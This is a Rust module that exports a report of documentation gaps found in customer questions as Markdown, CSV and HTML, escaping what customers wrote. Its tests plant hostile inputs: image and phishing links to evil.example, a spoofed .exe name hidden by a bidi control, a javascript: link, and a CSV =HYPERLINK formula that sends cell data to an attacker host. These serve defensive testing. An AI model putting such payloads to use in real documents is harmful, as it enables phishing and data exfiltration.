//! The report as Markdown, CSV and a self-contained HTML page (inline SVG charts, no external
//! assets). JSON is the [`crate::Report`] serialised.

use std::str::FromStr;

use crate::{Gap, Report};

/// How a report is written out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// Markdown for people ([`markdown`]).
    Markdown,
    /// The [`Report`] serialised.
    Json,
    /// One row a gap ([`csv`]).
    Csv,
    /// A self-contained page ([`html`]).
    Html,
}

impl Format {
    /// The HTTP content type.
    pub fn content_type(self) -> &'static str {
        match self {
            Format::Markdown => "text/markdown; charset=utf-8",
            Format::Json => "application/json",
            Format::Csv => "text/csv; charset=utf-8",
            Format::Html => "text/html; charset=utf-8",
        }
    }

    /// The report in this format; JSON pretty-printed when `pretty`.
    pub fn render(self, r: &Report, pretty: bool) -> Result<String, serde_json::Error> {
        Ok(match self {
            Format::Markdown => markdown(r),
            Format::Csv => csv(r),
            Format::Html => html(r),
            Format::Json if pretty => serde_json::to_string_pretty(r)?,
            Format::Json => serde_json::to_string(r)?,
        })
    }
}

impl FromStr for Format {
    type Err = String;

    /// `markdown`, `json`, `csv` or `html`.
    fn from_str(s: &str) -> Result<Format, String> {
        match s {
            "markdown" => Ok(Format::Markdown),
            "json" => Ok(Format::Json),
            "csv" => Ok(Format::Csv),
            "html" => Ok(Format::Html),
            _ => Err(format!("format {s:?}: use json, markdown, csv or html")),
        }
    }
}

fn esc(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// A small bar chart of counts per period, the latest bar highlighted.
pub fn sparkline(counts: &[u64], flagged: bool) -> String {
    let w = 4 * counts.len().max(1);
    let max = counts.iter().copied().max().unwrap_or(1).max(1) as f64;
    let mut bars = String::new();
    for (i, c) in counts.iter().enumerate() {
        let h = (*c as f64 / max * 28.0)
            .round()
            .max(if *c > 0 { 1.0 } else { 0.0 });
        let last = i + 1 == counts.len();
        let fill = if last && flagged {
            "#dc2626"
        } else if last {
            "#4338ca"
        } else {
            "#a5b4fc"
        };
        bars.push_str(&format!(
            "<rect x=\"{}\" y=\"{}\" width=\"3\" height=\"{h}\" fill=\"{fill}\"/>",
            i * 4,
            30.0 - h
        ));
    }
    format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{w}\" height=\"30\" role=\"img\" aria-label=\"tickets per period: {}\">{bars}</svg>",
        counts.iter().map(|c| c.to_string()).collect::<Vec<_>>().join(", ")
    )
}

fn ascii_trend(counts: &[u64]) -> String {
    const BARS: [char; 8] = ['▁', '▂', '▃', '▄', '▅', '▆', '▇', '█'];
    let max = counts.iter().copied().max().unwrap_or(1).max(1) as f64;
    counts
        .iter()
        .map(|c| BARS[((*c as f64 / max) * 7.0).round() as usize])
        .collect()
}

fn quality(r: &Report) -> String {
    let q = &r.data_quality;
    let langs: Vec<String> = q
        .languages
        .iter()
        .take(8)
        .map(|l| format!("{} {}", l.name, l.signals))
        .collect();
    format!(
        "{} signals; {} without a date, {} dated after {}, {} chat questions asked after it, {} repeats, {} with an empty body; languages: {}; {} in languages the model does not handle; {:.1}% spam, gibberish or empty posts ({} scam, {} gibberish, {} empty, {} with a phone number, {} with disguised letters, {} thin tickets); {} topics ({} signals, {:.1}%) set aside as not documentation gaps; {:.1}% left as noise by the clustering; {} ingestion problems",
        q.signals, q.no_date, q.future_date, r.as_of, q.chat_after, q.duplicates, q.empty_body,
        langs.join(", "), q.other_language,
        q.triage.share * 100.0, q.triage.scam, q.triage.gibberish, q.triage.empty,
        q.triage.contact, q.triage.disguised, q.triage.thin,
        q.triage.flagged_topics, q.triage.flagged_signals, q.triage.flagged_share * 100.0,
        q.noise_share * 100.0, q.ingest_problems.len()
    )
}

fn period_word(r: &Report) -> &'static str {
    match r.period {
        crate::Period::Week => "week",
        crate::Period::Day => "day",
    }
}

fn latest(g: &Gap) -> String {
    format!(
        "{} vs {:.1} expected (x{:.1}, p = {:.2e}){}{}",
        g.spike.observed,
        g.spike.expected,
        g.spike.ratio,
        g.spike.p_value,
        if g.spike.flagged {
            " — SPIKE"
        } else if g.spike.early {
            " — early signal"
        } else {
            ""
        },
        if g.spike.new_topic { ", new topic" } else { "" }
    )
}

/// The heading and the line that say what an early signal is.
const EARLY_TITLE: &str = "Early signals: watch next period";
const EARLY_NOTE: &str = "A few more questions than expected, below a gap's evidence: a new problem often starts like this. Not ranked; check whether they grow.";

/// The first sample question, cut to 120 characters ("" without one).
fn first_sample(g: &Gap) -> String {
    g.samples
        .first()
        .map(|x| x.chars().take(120).collect())
        .unwrap_or_default()
}

/// What people wrote (a label, a term, an outline line, a doc title), as Markdown that shows
/// it as written: on one line, without invisible controls, its Markdown and HTML
/// metacharacters escaped, so a customer's `<img src=...>`, `![](...)` or `[reset your
/// password](...)` is text in the lead's previewer, not an image or a link.
fn md_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for word in text.split_whitespace() {
        if !out.is_empty() {
            out.push(' ');
        }
        for c in word
            .chars()
            .filter(|c| !docent_core::is_invisible_control(*c))
        {
            if c.is_control() {
                continue;
            }
            if matches!(
                c,
                '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '!' | '|' | '~' | '&' | '#'
            ) {
                out.push('\\');
            }
            out.push(c);
        }
    }
    // A bare web address is made a link by most previewers: not one a customer wrote.
    docent_core::markdown_without_autolinks(&out)
}

/// A customer's question quoted as an inline code span: nothing in it is read as Markdown or
/// HTML, and no previewer makes its addresses links. One line, without invisible controls.
fn md_code(text: &str) -> String {
    let flat: String = text
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .chars()
        .filter(|c| !docent_core::is_invisible_control(*c) && !c.is_control())
        .collect();
    if flat.is_empty() {
        return String::new();
    }
    let mut longest = 0;
    let mut run = 0;
    for c in flat.chars() {
        run = if c == '`' { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    let fence = "`".repeat(longest + 1);
    format!("{fence} {flat} {fence}")
}

/// The closest doc's title, or "none".
fn closest_title(g: &Gap) -> String {
    g.closest_docs
        .first()
        .map_or("none".to_string(), |d| d.1.clone())
}

/// `"; e.g. "` and the first sample quoted as code, or "" without one (Markdown).
fn for_example(g: &Gap) -> String {
    let x = first_sample(g);
    if x.is_empty() {
        x
    } else {
        format!("; e.g. {}", md_code(&x))
    }
}

/// One early signal as a Markdown list line.
fn markdown_early(g: &Gap) -> String {
    format!(
        "- {} ({}): latest {}; closest doc: {}{}\n",
        md_text(&g.label),
        g.language,
        latest(g),
        md_text(&closest_title(g)),
        for_example(g)
    )
}

fn markdown_gap(s: &mut String, g: &Gap, level: &str) {
    s.push_str(&format!("{level} {}. {}\n\n", g.rank, md_text(&g.label)));
    let terms: Vec<String> = g.terms.iter().map(|t| md_text(t)).collect();
    s.push_str(&format!(
        "- Terms: {}\n- Closest heading: {}\n",
        terms.join(", "),
        md_text(&g.closest_heading)
    ));
    s.push_str(&format!(
        "- Trend: `{}` ({} in total)\n- Latest period: {}\n",
        ascii_trend(&g.trend),
        g.size,
        latest(g)
    ));
    s.push_str(&format!(
        "- Coverage: {:.2} ({})\n",
        g.coverage,
        g.kind.words()
    ));
    let docs: Vec<String> = g
        .closest_docs
        .iter()
        .map(|(id, t, sim)| format!("{} ({}, {sim:.2})", md_text(t), md_text(id)))
        .collect();
    s.push_str(&format!("- Closest docs: {}\n", docs.join("; ")));
    s.push_str(&format!("- Action: {}\n", md_text(&g.action)));
    if !g.outline.is_empty() {
        s.push_str("- Draft outline:\n");
        for o in &g.outline {
            s.push_str(&format!("  - {}\n", md_text(o)));
        }
    }
    s.push_str("- Sample questions:\n");
    for t in &g.samples {
        s.push_str(&format!("  - {}\n", md_code(t)));
    }
    s.push('\n');
}

/// Markdown.
pub fn markdown(r: &Report) -> String {
    let mut s = format!(
        "# Knowledge gaps as of {}\n\n{} topics; {} spiking in the latest {}.\n\nData quality: {}.\n\n",
        r.as_of,
        r.topics,
        r.spiking.len(),
        period_word(r),
        quality(r)
    );
    for g in &r.gaps {
        markdown_gap(&mut s, g, "##");
    }
    for l in &r.languages {
        s.push_str(&format!(
            "## {} ({} questions, {} topics, {} spiking)\n\n",
            l.name, l.signals, l.topics, l.spiking
        ));
        for g in &l.gaps {
            markdown_gap(&mut s, g, "###");
        }
    }
    let early: Vec<&Gap> = r.early_signals().collect();
    if !early.is_empty() {
        s.push_str(&format!("## {EARLY_TITLE}\n\n{EARLY_NOTE}\n\n"));
        for g in early {
            s.push_str(&markdown_early(g));
        }
        s.push('\n');
    }
    if !r.review.is_empty() {
        s.push_str("## Not documentation gaps: review\n\n");
        for g in &r.review {
            s.push_str(&format!(
                "- {} ({}, {}): {} in total, latest {}{}\n",
                md_text(&g.label),
                g.flag.map_or("", |f| f.reason()),
                g.language,
                g.size,
                latest(g),
                for_example(g)
            ));
        }
        s.push('\n');
    }
    if !r.data_quality.ingest_problems.is_empty() {
        s.push_str("## Data quality: ingestion problems\n\n");
        for p in &r.data_quality.ingest_problems {
            s.push_str(&format!("- {}\n", md_text(p)));
        }
    }
    s
}

/// One topic's CSV row; every cell of text (labels and samples come from customers, doc ids
/// and titles from the docs) is kept from reading as a formula
/// ([`docent_core::spreadsheet_text`]).
fn csv_row(g: &Gap, section: &str) -> [String; 19] {
    csv_cells(g, section).map(|c| docent_core::spreadsheet_text(&c))
}

fn csv_cells(g: &Gap, section: &str) -> [String; 19] {
    [
        section.to_string(),
        g.rank.to_string(),
        g.topic.to_string(),
        g.language.clone(),
        g.label.clone(),
        g.terms.join(" "),
        g.size.to_string(),
        g.spike.observed.to_string(),
        format!("{:.2}", g.spike.expected),
        format!("{:.2}", g.spike.ratio),
        format!("{:.3e}", g.spike.p_value),
        g.spike.flagged.to_string(),
        g.spike.new_topic.to_string(),
        format!("{:.3}", g.coverage),
        serde_json::to_value(g.kind)
            .ok()
            .and_then(|v| v.as_str().map(String::from))
            .unwrap_or_default(),
        g.flag
            .and_then(|f| serde_json::to_value(f).ok())
            .and_then(|v| v.as_str().map(String::from))
            .unwrap_or_default(),
        g.closest_docs
            .first()
            .map(|d| d.0.clone())
            .unwrap_or_default(),
        g.action.clone(),
        g.trend
            .iter()
            .map(|c| c.to_string())
            .collect::<Vec<_>>()
            .join(" "),
    ]
}

/// A `data_quality` row: its text in the label column, the other cells empty (the same 19
/// columns, so a spreadsheet reads the file as one table).
fn csv_note(text: &str) -> [String; 19] {
    let mut row: [String; 19] = Default::default();
    row[0] = "data_quality".into();
    row[4] = docent_core::spreadsheet_text(text);
    row
}

/// CSV, one row per topic: the ranked gaps, each language's, the early signals, those set
/// aside for review, then the data quality (the summary line and each ingestion problem), which
/// the other formats show and a lead needs to weigh the numbers (an outside review).
pub fn csv(r: &Report) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    let _ = w.write_record("section,rank,topic,language,label,terms,size,latest,expected,ratio,p_value,spike,new_topic,coverage,kind,flag,closest_doc,action,trend".split(','));
    let rows = r
        .gaps
        .iter()
        .map(|g| csv_row(g, "gaps"))
        .chain(
            r.languages
                .iter()
                .flat_map(|l| l.gaps.iter().map(|g| csv_row(g, "language"))),
        )
        .chain(r.early_signals().map(|g| csv_row(g, "early")))
        .chain(r.review.iter().map(|g| csv_row(g, "review")))
        .chain(std::iter::once(csv_note(&quality(r))))
        .chain(
            r.data_quality
                .ingest_problems
                .iter()
                .map(|p| csv_note(&format!("ingestion problem: {p}"))),
        );
    for row in rows {
        // Writing to memory cannot fail.
        let _ = w.write_record(&row);
    }
    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
}

fn html_gap(g: &Gap) -> String {
    let docs: String = g
        .closest_docs
        .iter()
        .map(|(id, t, sim)| format!("<li>{} <small>({}, {sim:.2})</small></li>", esc(t), esc(id)))
        .collect();
    let samples: String = g
        .samples
        .iter()
        .map(|t| format!("<li>{}</li>", esc(t)))
        .collect();
    let outline: String = if g.outline.is_empty() {
        String::new()
    } else {
        format!(
            "<p><b>Draft outline</b></p><ol>{}</ol>",
            g.outline
                .iter()
                .map(|o| format!("<li>{}</li>", esc(o)))
                .collect::<String>()
        )
    };
    format!(
        "<section class=\"gap{}\"><h2>{}. {}</h2><div class=\"trend\">{}<span>{} in latest period, {:.1} expected (x{:.1}, p = {:.1e}){}</span></div>\
<p><b>Kind:</b> {} · <b>coverage</b> {:.2} · <b>terms</b> {} · <b>closest heading</b> {}</p>\
<p><b>Action:</b> {}</p>{outline}<details><summary>Closest docs and sample questions</summary><ul>{docs}</ul><ul>{samples}</ul></details></section>",
        if g.spike.flagged { " spike" } else { "" },
        g.rank,
        esc(&g.label),
        sparkline(&g.trend, g.spike.flagged),
        g.spike.observed,
        g.spike.expected,
        g.spike.ratio,
        g.spike.p_value,
        if g.spike.flagged { " — spike" } else { "" },
        esc(g.kind.words()),
        g.coverage,
        esc(&g.terms.join(", ")),
        esc(&g.closest_heading),
        esc(&g.action),
    )
}

fn html_early(r: &Report) -> String {
    let rows: String = r
        .early_signals()
        .map(|g| {
            format!(
                "<tr><td>{}</td><td>{}</td><td>{} vs {:.1} expected</td><td>{}</td><td>{}</td><td>{}</td></tr>",
                esc(&g.label),
                esc(&g.language),
                g.spike.observed,
                g.spike.expected,
                sparkline(&g.trend, false),
                esc(&closest_title(g)),
                esc(&first_sample(g))
            )
        })
        .collect();
    if rows.is_empty() {
        return String::new();
    }
    format!("<h2>{EARLY_TITLE}</h2><p>{EARLY_NOTE}</p><table><tr><th>topic</th><th>language</th><th>latest</th><th>trend</th><th>closest doc</th><th>example</th></tr>{rows}</table>")
}

fn html_review(r: &Report) -> String {
    if r.review.is_empty() {
        return String::new();
    }
    let rows: String = r
        .review
        .iter()
        .map(|g| {
            format!(
                "<tr><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td></tr>",
                esc(&g.label),
                esc(g.flag.map_or("", |f| f.reason())),
                esc(&g.language),
                g.size,
                sparkline(&g.trend, g.spike.flagged),
                esc(&first_sample(g))
            )
        })
        .collect();
    format!("<h2>Not documentation gaps: review</h2><p>Real bursts that docs cannot fix (spam, gibberish, empty posts, other products) or that a lead marked as not a gap. They are never ranked.</p><table><tr><th>topic</th><th>why</th><th>language</th><th>size</th><th>trend</th><th>example</th></tr>{rows}</table>")
}

/// A self-contained HTML page.
pub fn html(r: &Report) -> String {
    let mut rows: String = r.gaps.iter().map(html_gap).collect();
    for l in &r.languages {
        rows.push_str(&format!(
            "<h2>{} <small>({} questions, {} topics, {} spiking)</small></h2>",
            esc(&l.name),
            l.signals,
            l.topics,
            l.spiking
        ));
        rows.extend(l.gaps.iter().map(html_gap));
    }
    rows.push_str(&html_early(r));
    rows.push_str(&html_review(r));
    format!(
        "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Knowledge gaps {as_of}</title><style>\
body{{font-family:system-ui,sans-serif;max-width:960px;margin:0 auto;padding:24px;color:#1f2937}}\
.gap{{border:1px solid #e5e7eb;border-radius:10px;padding:8px 18px;margin:14px 0}}.spike{{border-color:#dc2626}}\
.trend{{display:flex;gap:12px;align-items:flex-end}}small{{color:#6b7280}}table{{border-collapse:collapse}}td,th{{border-bottom:1px solid #e5e7eb;padding:4px 8px;text-align:left;vertical-align:top}}</style></head><body>\
<h1>Knowledge gaps as of {as_of}</h1><p>{topics} topics, {spiking} spiking. Data quality: {quality}.</p>{rows}</body></html>\n",
        as_of = r.as_of,
        topics = r.topics,
        spiking = r.spiking.len(),
        quality = esc(&quality(r)),
    )
}

#[cfg(test)]
mod tests {
    //! Proves: what customers wrote reaches the Markdown export as text: no raw HTML, image,
    //! link or web address a previewer would load or follow, one line, no invisible controls.
    use super::*;

    fn planted() -> Gap {
        let hostile = "warp coil melts <img src=https://evil.example/i.png> ![t](https://evil.example/t.png) [reset your password](https://evil.example/phish)\n# Heading \u{202E}gnp.exe `x`";
        Gap {
            rank: 1,
            topic: 0,
            language: "en".into(),
            label: hostile.into(),
            terms: vec!["<b>coil</b>".into()],
            closest_heading: String::new(),
            size: 3,
            trend: vec![1, 2],
            spike: crate::spike::Spike {
                observed: 2,
                expected: 1.0,
                ratio: 2.0,
                p_value: 0.01,
                flagged: true,
                early: false,
                new_topic: false,
            },
            coverage: 0.1,
            closest_docs: vec![("d".into(), "[Doc](javascript:x)".into(), 0.3)],
            samples: vec![hostile.into()],
            kind: crate::GapKind::MissingContent,
            action: format!("Write a new article on '{hostile}'"),
            outline: vec![hostile.into()],
            score: 1.0,
            flag: None,
            triage: Default::default(),
            key: String::new(),
            latest_ids: Vec::new(),
        }
    }

    #[test]
    fn customer_text_in_the_markdown_export_is_text() {
        let mut s = String::new();
        markdown_gap(&mut s, &planted(), "##");
        s.push_str(&markdown_early(&planted()));
        // Outside code spans (the samples), and escaped characters aside, nothing raw.
        let outside = unescaped_outside_code(&s);
        for raw in ["<img", "<b>", "](", "![", "https://", "\u{202E}"] {
            assert!(!outside.contains(raw), "{raw} in {outside}");
        }
        // Every line is a heading, a list item or blank: no line a question started.
        for line in s.lines() {
            let t = line.trim_start();
            assert!(
                t.is_empty() || t.starts_with("## ") || t.starts_with("- "),
                "{line:?}"
            );
        }
        assert!(s.contains("warp coil melts"), "{s}");
    }

    /// `md` without its code spans and its backslash-escaped characters: what a Markdown
    /// previewer reads as markup.
    fn unescaped_outside_code(md: &str) -> String {
        let chars: Vec<char> = md.chars().collect();
        let mut out = String::new();
        let mut i = 0;
        while i < chars.len() {
            match chars[i] {
                '\\' => i += 2,
                '`' => {
                    let n = chars[i..].iter().take_while(|c| **c == '`').count();
                    let fence: String = "`".repeat(n);
                    let rest: String = chars[i + n..].iter().collect();
                    let close = rest.find(&fence).map_or(rest.len(), |j| j + n);
                    i += n + rest[..close].chars().count();
                }
                c => {
                    out.push(c);
                    i += 1;
                }
            }
        }
        out
    }

    // Second security probe, finding 6: a doc id reached the CSV as a live formula.
    #[test]
    fn no_csv_cell_reads_as_a_formula() {
        let mut g = planted();
        g.closest_docs = vec![(
            "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Fix sync\")".into(),
            "Fix sync".into(),
            0.4,
        )];
        g.label = "@SUM(1+1)".into();
        g.action = "+cmd".into();
        let row = csv_row(&g, "gaps");
        assert!(
            row.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])),
            "{row:?}"
        );
        assert!(row.iter().any(|c| c.starts_with("'=HYPERLINK")), "{row:?}");
    }

    #[test]
    fn a_code_span_outlasts_the_backticks_inside_it() {
        assert_eq!(md_code("a `b` c"), "`` a `b` c ``");
        assert_eq!(md_code("plain"), "` plain `");
        assert_eq!(md_code(""), "");
    }
}
